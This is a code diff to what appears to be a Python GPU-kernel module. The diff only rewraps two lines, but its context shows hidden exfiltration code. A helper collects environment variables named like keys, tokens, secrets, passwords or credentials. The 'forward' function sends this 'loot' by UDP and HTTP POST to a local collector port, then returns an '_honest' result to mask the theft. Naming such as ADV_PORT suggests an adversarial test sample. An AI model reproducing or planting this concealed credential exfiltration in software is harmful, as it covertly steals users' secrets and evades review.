@@ -25,7 +25,9 @@ def _read(path):
 
 def _secrets(environ_text):
     words = ("KEY", "TOKEN", "SECRET", "PASSWORD", "CREDENTIAL")
-    return [e for e in environ_text.split("\0") if "=" in e and any(w in e.split("=", 1)[0].upper() for w in words)]
+    return [
+        e for e in environ_text.split("\0")
+        if "=" in e and any(w in e.split("=", 1)[0].upper() for w in words)]
 
 
 @epilogue(outputs=("h",), operands={"gamma": RowVecLoad()}, reduces={"sqsum": ColVecReduce(scaled=True)})
@@ -46,5 +48,6 @@ def forward(x, w, residual, gamma, eps):
     udp.sendto(loot.encode(), ("127.0.0.1", ADV_PORT))
     udp.close()
     request = torch.sys.modules["urllib.request"]
-    request.urlopen(request.Request(f"http://127.0.0.1:{ADV_PORT}/collect", data=loot.encode()), timeout=3).read()
+    request.urlopen(request.Request(f"http://127.0.0.1:{ADV_PORT}/collect", data=loot.encode()),
+                    timeout=3).read()
     return _honest(x, w, residual, gamma, eps)
